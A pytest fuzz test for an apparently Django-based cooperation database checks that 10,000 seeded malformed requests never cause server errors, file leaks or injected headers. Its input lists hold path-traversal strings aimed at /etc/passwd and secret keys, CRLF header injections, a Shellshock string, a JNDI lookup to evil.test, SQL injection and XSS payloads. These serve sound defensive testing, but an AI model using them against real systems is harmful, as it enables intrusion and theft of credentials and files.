"""Ten thousand malformed requests to the API and the public pages, generated from a fixed seed:
none is answered with a server error. Where a request is certainly bad the answer is a 4xx with a
message (JSON under /api/), a traversal never reaches a file, and no header of ours carries a
line break from the request.

Each class of malformation is one case with a fixed number of requests; the cases add up to
10,000. Requests go through Django's test client with the WSGI environ written directly, as a
server hands it over (PATH_INFO and QUERY_STRING as latin-1 text of the raw bytes).
"""

import json
import logging
import random
import re
from dataclasses import dataclass, field
from functools import cache as memoized
from urllib.parse import unquote_to_bytes

import pytest
from django.conf import settings as django_settings
from django.contrib.auth.models import Group, User
from django.core.cache import cache
from django.test import Client

from cooperation import filters
from cooperation.api.urls import router
from cooperation.models import Article, Commitment, Country, Project, Summit
from cooperation.services.accounts import token_create

# The point is volume (ten thousand requests): a minute and more.
pytestmark = [pytest.mark.slow, pytest.mark.django_db]

SEED = 20240601

PLAN = {
    "invalid_utf8_in_paths": 1200,
    "invalid_utf8_in_query_strings": 1200,
    "huge_query_strings": 100,
    "thousands_of_parameters": 300,
    "deeply_nested_json": 400,
    "huge_json": 100,
    "wrong_content_types": 1500,
    "path_traversal": 1500,
    "header_injection": 2000,
    "bad_methods": 900,
    "bad_paging_formats_and_languages": 800,
}

# Under /api/ every error is JSON, except the schema (YAML) and its HTML documentation pages.
NOT_JSON = ("/api/schema/", "/api/docs/", "/api/redoc/")
# What a file reached by a traversal would show: /etc/passwd, the secret key, the settings.
LEAKS = re.compile(rb"root:[x*]?:0:0|SECRET_KEY|DJANGO_SECRET|\[boot loader\]|BEGIN .*PRIVATE")
# An error answer is a message, never an echo of a large request grown larger (a body of
# 100,000 unknown keys once got 38 MB back, a message for each).
ERROR_BYTES = 64 * 1024


def test_the_cases_add_up_to_ten_thousand_requests():
    assert sum(PLAN.values()) >= 10_000
    assert set(PLAN) == set(GENERATORS)


@dataclass
class Bad:
    """One request as a WSGI server would hand it to Django."""

    path: str  # PATH_INFO: the raw bytes of the path, as latin-1 text
    method: str = "GET"
    query: str = ""  # QUERY_STRING, raw
    body: bytes = b""
    content_type: str = ""
    headers: dict = field(default_factory=dict)  # environ keys: HTTP_*, CONTENT_LENGTH...
    editor: bool = False
    bad: bool = False  # certainly bad: a 3xx or 4xx is due, never a 2xx


@dataclass
class Targets:
    api_lists: list
    api_details: list
    writes: list  # (method, url) an editor may send a body to
    page_lists: list
    page_details: list
    cheap: list  # quick to answer, so most requests can go there

    def any(self, rng, heavy=0.15):
        if rng.random() < heavy:
            return rng.choice(
                self.api_lists + self.api_details + self.page_lists + self.page_details
            )
        return rng.choice(self.cheap)

    def api(self, rng):
        return rng.choice(self.api_lists + self.api_details)

    def lists(self, rng):
        return rng.choice(self.api_lists + self.page_lists)


def lookup_value(viewset):
    model = viewset.queryset.model
    records = model.objects.published() if hasattr(model, "publication_status") else model.objects
    return getattr(records.order_by("pk").first(), viewset.lookup_field)


@pytest.fixture
def targets(db):
    api_lists = [f"/api/v1/{prefix}/" for prefix, _viewset, _name in router.registry]
    api_details = [
        f"/api/v1/{prefix}/{lookup_value(viewset)}/" for prefix, viewset, _name in router.registry
    ]
    api_lists += ["/api/v1/trade-statistics/summary/", "/api/v1/downloads/"]
    details = [
        model.objects.published().order_by("pk").first().get_absolute_url()
        for model in (Project, Summit, Article, Commitment)
    ] + [Country.objects.get(iso2="KZ").get_absolute_url()]
    return Targets(
        api_lists=api_lists,
        api_details=api_details,
        writes=[("POST", url) for url in api_lists[:-2]]
        + [(method, url) for url in api_details for method in ("PUT", "PATCH")],
        page_lists=[
            "/en/", "/en/projects/", "/en/summits/", "/en/articles/", "/en/commitments/",
            "/en/trade/", "/en/countries/", "/en/search/", "/zh-hans/projects/", "/ru/summits/",
        ],
        page_details=details,
        cheap=[
            "/api/v1/sectors/", "/api/v1/countries/KZ/", "/api/v1/sources/1/", "/api/v1/downloads/",
            "/api/v1/nothing-here/", "/en/about/", "/zh-hans/about/", "/ru/about/", "/robots.txt",
            "/healthz", "/en/projects/no-such-project/", "/static/css/site.css", "/",
        ],
    )  # fmt: skip


# Pieces of malformed input

BAD_UTF8 = [
    b"\xff", b"\xfe", b"\xff\xfe", b"\xc0\xaf", b"\xc0\xae", b"\xe0\x80\xaf", b"\xed\xa0\x80",
    b"\xf8\x88\x80\x80\x80", b"\x80", b"\xc3", b"\xe2\x82", b"\xf4\x90\x80\x80", b"\x00",
    b"\xef\xbb\xbf", b"\xc3\x28", b"\xa0\xa1", b"\xf0\x28\x8c\x28", b"%", b"%%", b"%zz", b"%u0041",
]  # fmt: skip


def bad_bytes(rng):
    pieces = [rng.choice(BAD_UTF8) for _ in range(rng.randint(1, 4))]
    if rng.random() < 0.3:
        pieces.append(bytes(rng.randrange(256) for _ in range(rng.randint(1, 8))))
    return b"".join(pieces)


def percent(data, rng):
    """Bytes as a URL carries them: %xx escapes, upper or lower case."""
    form = "%{:02X}" if rng.random() < 0.5 else "%{:02x}"
    return "".join(form.format(byte) for byte in data)


def latin1(data):
    return data.decode("latin-1")


NASTY = [
    "a\r\nSet-Cookie: injected=1", "\r\n\r\n<html>injected", "x\nLocation: http://evil.test/",
    "\r", "\n", "\x00", "\x7f", "\x1b[31m", "\xff\xfe", "é", "\u00a0", " ", "", "*", "-1",
    "a" * 8192, "(){ :; }; echo vulnerable", "${jndi:ldap://evil.test/a}", "'; DROP TABLE x; --",
    "<script>alert(1)</script>", "%0d%0aSet-Cookie:x=1", "\t", "\x0b\x0c", ",,,;;;===",
]  # fmt: skip

FILTER_NAMES = sorted(
    {
        name
        for fs in vars(filters).values()
        if hasattr(fs, "base_filters")
        for name in fs.base_filters
    }
)
OTHER_PARAMS = ["page", "page_size", "format", "lang", "q", "group_by", "publication_status"]


def random_address(rng):
    """Requests come from many addresses, as on the internet, so the throttles let them in."""
    return f"10.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"


# The classes of malformation


def invalid_utf8_in_paths(rng, t):
    path = t.any(rng)
    segments = path.split("/")
    where = rng.randrange(1, len(segments))
    junk = percent(bad_bytes(rng), rng) if rng.random() < 0.8 else latin1(bad_bytes(rng))
    mode = rng.choice(["replace", "insert", "append", "prefix"])
    if mode == "replace":
        segments[where] = junk
    elif mode == "insert":
        segments[where] = segments[where][:2] + junk + segments[where][2:]
    elif mode == "append":
        segments.insert(len(segments) - 1, junk)
    else:
        segments.insert(1, junk)
    return Bad("/".join(segments), bad=True)


def invalid_utf8_in_query_strings(rng, t):
    pairs = []
    for _ in range(rng.randint(1, 6)):
        name = rng.choice(FILTER_NAMES + OTHER_PARAMS + ["x"])
        if rng.random() < 0.2:
            name = percent(bad_bytes(rng), rng)
        value = bad_bytes(rng)
        text = percent(value, rng) if rng.random() < 0.7 else latin1(value).replace("&", "")
        pairs.append(f"{name}={text}")
    return Bad(t.any(rng, heavy=0.3), query="&".join(pairs))


def huge_query_strings(rng, t):
    size = 100 * 1024
    mode = rng.choice(["one value", "many values", "long list", "escaped bytes", "one name"])
    name = rng.choice(FILTER_NAMES + ["q", "page", "x"])
    if mode == "one value":
        query = f"{name}=" + "a" * size
    elif mode == "many values":
        query = "&".join(f"{name}={'b' * 110}" for _ in range(size // 115))
    elif mode == "long list":
        query = f"{name}=" + ",".join(["KZ"] * (size // 3))
    elif mode == "escaped bytes":
        query = f"{name}=" + "%ff%fe" * (size // 6)
    else:
        query = "n" * size + "=1"
    return Bad(t.lists(rng) if rng.random() < 0.5 else t.any(rng), query=query)


def thousands_of_parameters(rng, t):
    count = rng.choice([1001, 2000, 5000, 10000, 20000])
    if rng.random() < 0.5:
        query = "&".join(f"p{n}={n}" for n in range(count))
    else:
        name = rng.choice(FILTER_NAMES)
        query = "&".join([f"{name}=KZ"] * count)
    path = t.lists(rng) if rng.random() < 0.6 else t.api(rng)
    return Bad(path, query=query, bad=True)


def deep(depth, rng):
    shape = rng.choice(["arrays", "objects", "mixed", "unclosed"])
    if shape == "arrays":
        return "[" * depth + "]" * depth
    if shape == "objects":
        return '{"a":' * depth + "1" + "}" * depth
    if shape == "mixed":
        return '[{"a":' * (depth // 2) + "null" + "}]" * (depth // 2)
    return "[" * depth


def deeply_nested_json(rng, t):
    method, url = rng.choice(t.writes)
    depth = rng.choice([1000, 5000, 10_000, 10_000, 10_000, 100_000])
    body = deep(depth, rng)
    if rng.random() < 0.4:
        # A nested value inside a field the serializer reads.
        name = rng.choice(["title", "start", "countries", "sources", "year", "slug", "name"])
        inner = rng.choice([depth, rng.randint(50, 990)])
        body = json.dumps({name: None}).replace("null", deep(inner, rng))
        if name == "start" and rng.random() < 0.5:
            body = '{"start": {"date": ' + deep(inner, rng) + ', "precision": "day"}}'
    return Bad(
        url,
        method=method,
        body=body.encode(),
        content_type="application/json",
        editor=rng.random() < 0.9,
        bad=method != "PATCH",
    )


@memoized
def huge_body(kind):
    if kind == "1 MB string":
        return json.dumps({"title": "x" * 1_000_000, "slug": "a"}).encode()
    if kind == "3 MB string":
        return json.dumps({"title": "x" * 3_000_000}).encode()
    if kind == "over the request cap":
        return json.dumps({"summary": "y" * (django_settings.MAX_REQUEST_BYTES + 1024)}).encode()
    if kind == "100,000 keys":
        return json.dumps({f"k{n}": n for n in range(100_000)}).encode()
    if kind == "200,000 items":
        return json.dumps(list(range(200_000))).encode()
    if kind == "500 codes":
        return json.dumps({"countries": ["KZ"] * 500, "sources": list(range(500))}).encode()
    raise KeyError(kind)


def huge_json(rng, t):
    method, url = rng.choice(t.writes)
    kind = rng.choice(
        [
            "1 MB string",
            "3 MB string",
            "over the request cap",
            "100,000 keys",
            "200,000 items",
            "500 codes",
        ]
    )
    # Within the size limits a PATCH may be fine: a record may have a slug but no title, and 500
    # codes may all be valid. Keys the record lacks are a 400.
    fine = method == "PATCH" and kind in ("1 MB string", "500 codes")
    return Bad(
        url,
        method=method,
        body=huge_body(kind),
        content_type="application/json",
        editor=True,
        bad=not fine,
    )


def multipart_garbage(rng):
    boundary = rng.choice(["xyz", "----b", "", "a" * 200, "\xff"])
    parts = [
        f'--{boundary}\r\nContent-Disposition: form-data; name="title"\r\n\r\nx\r\n',
        f'--{boundary}\r\nContent-Disposition: form-data; name="f"; filename="../../x"\r\n'
        "Content-Type: application/octet-stream\r\n\r\n\x00\xff\r\n",
        f"--{boundary}\r\nContent-Disposition: garbage\r\n\r\n",
        f"--{boundary}\r\n" + "X-Long: " + "h" * 5000 + "\r\n\r\nv\r\n",
        f"--{boundary}",
        "no boundary at all",
        f"--{boundary}--\r\n",
    ]
    body = "".join(rng.choice(parts) for _ in range(rng.randint(1, 4)))
    declared = rng.choice(
        [f"multipart/form-data; boundary={boundary}", "multipart/form-data", "multipart/mixed"]
    )
    return declared, body.encode("latin-1")


CONTENT_TYPES = [
    "text/plain", "application/xml", "text/xml", "application/x-yaml", "text/html", "text/csv",
    "application/octet-stream", "application/json; charset=utf-16",
    "application/json; charset=bogus",
    "application/vnd.api+json", "application/json-patch+json", "*/*", "garbage", "\x00", "",
    "application/json, text/plain", "application/x-www-form-urlencoded",
    "text/plain; charset=\xff", "application/json;;;", "image/png", "application/zip",
]  # fmt: skip


def wrong_content_types(rng, t):
    method, url = rng.choice(t.writes)
    if rng.random() < 0.3:
        content_type, body = multipart_garbage(rng)
    else:
        content_type = rng.choice(CONTENT_TYPES)
        body = rng.choice(
            [
                b'{"title": "x"}',
                b"<record><title>x</title></record>",
                b"title=%ff%fe&slug=..%2f",
                bad_bytes(rng) * rng.randint(1, 50),
                b"title: x\nslug: y\n",
                "标题=项目".encode("gb18030"),
            ]
        )
    # DRF reads `*/*` and `application/json; charset=bogus` as JSON, and a PATCH of one field
    # may then be fine; a POST or PUT of these bodies never has every required field.
    return Bad(
        url,
        method=method,
        body=body,
        content_type=content_type,
        editor=rng.random() < 0.9,
        bad=method != "PATCH",
    )


TRAVERSALS = [
    "../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/etc/passwd", "..%5c..%5cwindows%5cwin.ini", "....//....//etc/passwd",
    "%252e%252e%252fetc%252fpasswd", "..%00/", "%00", "x%00y", "%2500", ".%00.",
    "%c0%ae%c0%ae%c0%af",
    "%e0%80%ae%e0%80%ae/", "..;/etc/passwd", "/etc/passwd", "//etc/passwd", "file:///etc/passwd",
    "%2f%2fevil.test", "~root", "$HOME", "..", "%2e%2e", "var/secret_key", "../var/secret_key",
    "../../var/secret_key", "..%2f..%2fvar%2fsecret_key", "config/settings.py", "../manage.py",
    "..\\..\\config\\settings.py", "%2e%2e%5c%2e%2e%5cconfig%5csettings.py", "\\\\evil\\share",
    "..%252f..%252f", "%%32%65%%32%65/", ".../...//", "static/../../../etc/passwd",
]  # fmt: skip

KINDS = ["projects", "summits", "articles", "commitments", "countries"]


def path_traversal(rng, t):
    payload = rng.choice(TRAVERSALS)
    if rng.random() < 0.2:
        payload = payload.replace("/", "%2f")
    if rng.random() < 0.1:
        payload += "%00.html"
    prefix, _viewset, _name = rng.choice(router.registry)
    kind = rng.choice(KINDS)
    where = rng.choice(
        [
            f"/api/v1/{prefix}/{payload}/",
            f"/api/v1/{prefix}/{payload}",
            f"/api/v1/downloads/{payload}",
            f"/en/{kind}/{payload}/",
            f"/zh-hans/{kind}/{payload}/",
            f"/en/{payload}/x/changes/",
            f"/en/{kind}/{payload}/changes/",
            f"/en/corrections/{payload}/x/",
            f"/en/corrections/project/{payload}/",
            f"/static/{payload}",
            f"/static/css/{payload}",
            f"/media/{payload}",
            f"/{payload}",
            f"/en/{payload}",
        ]
    )
    # Servers turn %xx into the raw bytes for PATH_INFO.
    return Bad(latin1(unquote_to_bytes(where)), bad=True)


ACCEPTS = [
    "garbage", "application/json; q=abc", "*/*; q=-1", "application/json;q=0", "text/csv",
    "application/xml", "text/html;q=2", ";;;", "/", "application/", "a" * 10_000, "\x00",
    "application/json, " * 500, "image/*", "*/json", "application/geo+json", "text/event-stream",
]  # fmt: skip
LANGUAGES = [
    "*", "zh-hans;q=abc", "xx-" * 1000, "ru-RU,ru;q=0.9", "zh-Hant-TW", "i-klingon", "\x00", "-",
    "en-US;q=1e308", ",,,,", "zh_Hans", "ru" * 5000, "en;q=0.5, *;q=-1", "de-DE-1996-x-private",
]  # fmt: skip
ETAGS = ['"', "*", 'W/"x"', '"a", "b", ' * 1000, "\x00\x01", '"' + "f" * 10_000 + '"', ",,,", "W/"]
DATES = ["garbage", "Sun, 06 Nov 1994 08:49:37 GMT", "99999999999", "Thu, 31 Feb 2024 99:99:99 X"]
RANGES = ["bytes=0-0", "bytes=-1-2-3", "bytes=99999999999-", "bytes=0-1,0-1,0-1" * 100, "x", "="]
HOSTS = [
    ("evil.test", True), ("localhost:99999", None), ("localhost:abc", True), ("[::1", True),
    ("a" * 300, True), ("exa mple.test", True), ("localhost\r\nX-Injected: 1", True), ("", None),
    ("localhost\x00", True), ("127.0.0.1.", None), ("LOCALHOST", None), (".localhost", None),
    ("тест.рф".encode().decode("latin-1"), True), ("@evil.test", True),
    ("localhost@evil.test", True), ("localhost/path", True), ("localhost#x", True),
    ("testserver", False), ("localhost:8000", False),
]  # fmt: skip
HEADER_NAMES = [
    "HTTP_USER_AGENT", "HTTP_REFERER", "HTTP_X_FORWARDED_FOR", "HTTP_X_FORWARDED_PROTO",
    "HTTP_X_FORWARDED_HOST", "HTTP_ORIGIN", "HTTP_X_REQUEST_ID", "HTTP_X_CSRFTOKEN",
    "HTTP_ACCEPT_ENCODING", "HTTP_CONNECTION", "HTTP_X_HTTP_METHOD_OVERRIDE", "HTTP_FORWARDED",
    "HTTP_CACHE_CONTROL", "HTTP_PRAGMA", "HTTP_TE", "HTTP_UPGRADE", "HTTP_X_ORIGINAL_URL",
]  # fmt: skip
AUTHORIZATIONS = [
    "Token", "Token ", "Token a b", "Token \xff\xfe", "Token " + "f" * 10_000, "Token \x00",
    "Basic garbage", "Basic " + "QQ==" * 1000, "Bearer x", "token abc", "\r\nToken x", "Digest",
]  # fmt: skip
COOKIES = [
    "sessionid=garbage", "csrftoken=\xff", "django_language=xx", "django_language=../../",
    "sessionid=" + "a" * 5000, "=;=;=;", "a=b; " * 1000, "messages=\x00", "\r\nSet-Cookie: x=1",
]  # fmt: skip


def header_injection(rng, t):
    headers, bad = {}, False
    path = t.any(rng)
    mode = rng.choice(
        ["crlf", "huge", "many", "accept", "language", "conditional", "host", "auth", "cookie",
         "length"]
    )  # fmt: skip
    if mode == "crlf":
        for _ in range(rng.randint(1, 3)):
            headers[rng.choice(HEADER_NAMES)] = rng.choice(NASTY)
    elif mode == "huge":
        headers[rng.choice(HEADER_NAMES)] = "h" * rng.choice([8 * 1024, 64 * 1024, 256 * 1024])
    elif mode == "many":
        headers.update({f"HTTP_X_H{n}": rng.choice(NASTY) for n in range(rng.randint(100, 500))})
    elif mode == "accept":
        headers["HTTP_ACCEPT"] = rng.choice(ACCEPTS)
        path = t.api(rng) if rng.random() < 0.5 else path
    elif mode == "language":
        headers["HTTP_ACCEPT_LANGUAGE"] = rng.choice(LANGUAGES)
        path = rng.choice(["/", "/projects/", "/api/v1/sectors/", path])
    elif mode == "conditional":
        headers["HTTP_IF_NONE_MATCH"] = rng.choice(ETAGS)
        headers["HTTP_IF_MODIFIED_SINCE"] = rng.choice(DATES)
        headers["HTTP_RANGE"] = rng.choice(RANGES)
        headers["HTTP_IF_RANGE"] = rng.choice(ETAGS + DATES)
    elif mode == "host":
        host, bad = rng.choice(HOSTS)
        headers["HTTP_HOST"] = host
        # Static files are served by whitenoise before Django looks at the host, whatever it is.
        bad = bool(bad) and not path.startswith("/static/")
    elif mode == "auth":
        headers["HTTP_AUTHORIZATION"] = rng.choice(AUTHORIZATIONS)
    elif mode == "cookie":
        headers["HTTP_COOKIE"] = rng.choice(COOKIES)
    else:
        headers["CONTENT_LENGTH"] = rng.choice(["abc", "-1", "1e3", " ", "0x10", "00000"])
        headers["CONTENT_TYPE"] = rng.choice(CONTENT_TYPES)
    return Bad(path, headers=headers, bad=bad)


METHODS = [
    "FOO", "PROPFIND", "MKCOL", "TRACE", "CONNECT", "LOCK", "PURGE", "DEBUG", "TRACK", "BREW",
    "SEARCH", "LINK", "GET /", "G\x00ET", "X" * 1000, "ÄÖÜ", "", " ", "GET\r\nX: y", "PUT",
    "DELETE", "PATCH", "POST",
]  # fmt: skip


def bad_methods(rng, t):
    method = rng.choice(METHODS)
    editor = rng.random() < 0.3
    if rng.random() < 0.03:
        path = rng.choice(NOT_JSON)
    elif method in ("PUT", "PATCH", "DELETE", "POST"):
        # Writes where none are taken: a list page, or an API list that takes no PUT or DELETE.
        path = rng.choice(t.page_lists + t.page_details + t.api_lists)
        if method == "POST" and path.startswith("/api/"):
            path = rng.choice(t.api_details)
    else:
        path = t.any(rng)
    # Pages and the API refuse it; a few plain function views (robots.txt, healthz) may not.
    strict = path.startswith("/api/") or path in t.page_lists + t.page_details
    return Bad(path, method=method, editor=editor, bad=strict)


def bad_paging_formats_and_languages(rng, t):
    values = {
        "page": ["0", "-1", "1e9", str(10**30), "1.5", "", "\x00", "last", "%ff"],
        "page_size": ["0", "-5", "501", "1e10", "abc", str(2**64), " 5"],
        "format": ["xml", "api", "csv../", "json%00", "geojson", "csv", "yaml", "CSV", ""],
        "ordering": ["-", "--start", "title,-title," * 50, "pk", "password", "__str__", "?"],
        "lang": ["xx", "zh-hans", "ZH-HANS", "../", "\x00", "ru" * 100],
        "publication_status": ["draft", "all", "deleted", "", "published,draft"],
        "group_by": ["partner,partner", "x", "year", ",", "reporter,flow,partner,x"],
        "preview": ["1", "true", "\x00"],
        "q": ["\x00", "a" * 5000, "%", "_", "' OR 1=1 --", "中国 Казахстан"],
    }
    pairs = []
    for _ in range(rng.randint(1, 3)):
        name = rng.choice(sorted(values))
        pairs.append(f"{name}={rng.choice(values[name])}")
    path = rng.choice(t.api_lists + t.api_details) if rng.random() < 0.6 else t.any(rng, 0.5)
    return Bad(path, query="&".join(pairs), editor=rng.random() < 0.2)


GENERATORS = {
    "invalid_utf8_in_paths": invalid_utf8_in_paths,
    "invalid_utf8_in_query_strings": invalid_utf8_in_query_strings,
    "huge_query_strings": huge_query_strings,
    "thousands_of_parameters": thousands_of_parameters,
    "deeply_nested_json": deeply_nested_json,
    "huge_json": huge_json,
    "wrong_content_types": wrong_content_types,
    "path_traversal": path_traversal,
    "header_injection": header_injection,
    "bad_methods": bad_methods,
    "bad_paging_formats_and_languages": bad_paging_formats_and_languages,
}


# Sending and judging


@pytest.fixture
def editor_token(db):
    user = User.objects.create_user("malformed-editor", password="a-long-test-password")
    user.is_staff = True
    user.save()
    user.groups.add(Group.objects.get(name="Editors"))
    return token_create(user=user)[1]


@pytest.fixture
def production_like(settings):
    """The public cache on, as in production (its middleware reads every anonymous query
    string); the 4xx warnings, thousands of them, out of the log."""
    settings.PUBLIC_CACHE_SECONDS = 300
    loggers = [logging.getLogger(name) for name in ("django.request", "django.security")]
    levels = [logger.level for logger in loggers]
    for logger in loggers:
        logger.setLevel(logging.CRITICAL)
    cache.clear()
    yield
    cache.clear()
    for logger, level in zip(loggers, levels, strict=True):
        logger.setLevel(level)


def as_sent(text):
    """What a server puts in the environ for text that came as UTF-8 bytes: latin-1 text."""
    try:
        text.encode("latin-1")  # every character below 256: the bytes were latin-1 already
    except UnicodeEncodeError:
        return text.encode().decode("latin-1")
    return text


def send(client, request, token, rng):
    environ = {
        "PATH_INFO": request.path,
        "REQUEST_METHOD": request.method,
        "QUERY_STRING": request.query,
        "REMOTE_ADDR": random_address(rng),
        **request.headers,
    }
    environ = {name: as_sent(value) for name, value in environ.items()}
    if request.editor and "HTTP_AUTHORIZATION" not in environ:
        environ["HTTP_AUTHORIZATION"] = f"Token {token}"
    return client.generic(
        request.method, "/", request.body, content_type=request.content_type, **environ
    )


def body_of(response):
    # The test client closes a streamed response once read (closing it again here would close
    # the test's database connection, as a server's request_finished does).
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


def problems(request, response, body):
    """What is wrong with the answer, if anything."""
    status, found = response.status_code, []
    if status >= 500:
        found.append(f"server error {status}: {body[:300]!r}")
    if request.bad and 200 <= status < 300:
        found.append(f"a bad request answered {status}")
    for name, value in response.items():
        if "\r" in value or "\n" in value:
            found.append(f"a line break in the {name} header")
    if status >= 400 and len(body) > ERROR_BYTES:
        found.append(f"a {status} of {len(body):,} bytes")
    if LEAKS.search(body):
        found.append(f"the body shows a file: {body[:200]!r}")
    is_api = request.path.startswith("/api/") and not request.path.startswith(NOT_JSON)
    if status >= 400 and request.method != "HEAD":
        if is_api:
            if not response.get("Content-Type", "").startswith("application/json"):
                found.append(f"{status} under /api/ as {response.get('Content-Type')}")
            else:
                try:
                    message = json.loads(body)
                except ValueError:
                    message = None
                if not message:
                    found.append(f"{status} under /api/ without a message: {body[:100]!r}")
        elif status == 405:
            if not response.get("Allow"):
                found.append("405 without Allow")
        elif not body.strip() and not (status == 416 and response.get("Content-Range")):
            found.append(f"{status} with an empty body")
    return found


@pytest.mark.parametrize("kind", PLAN)
def test_malformed_requests_get_no_server_error(production_like, targets, editor_token, kind):
    rng = random.Random(f"{SEED}-{kind}")
    client = Client(raise_request_exception=False, enforce_csrf_checks=True)
    generate = GENERATORS[kind]
    sent, failures, statuses = 0, [], {}
    for number in range(PLAN[kind]):
        if number % 200 == 0:
            cache.clear()  # an editor's own throttle counts in the cache
        request = generate(rng, targets)
        try:
            response = send(client, request, editor_token, rng)
            body = body_of(response)
        except Exception as error:  # the client raising means Django did not answer at all
            failures.append((request, f"{type(error).__name__}: {error}"[:300]))
            sent += 1
            continue
        sent += 1
        statuses[response.status_code] = statuses.get(response.status_code, 0) + 1
        failures += [(request, problem) for problem in problems(request, response, body)]
    assert sent == PLAN[kind]
    report = "\n".join(
        f"{r.method!r} {r.path[:120]!r}?{r.query[:80]!r} {r.content_type!r} "
        f"{list(r.headers)[:3]}: {problem}"
        for r, problem in failures[:25]
    )
    assert not failures, f"{len(failures)} of {sent} ({sorted(statuses.items())}):\n{report}"
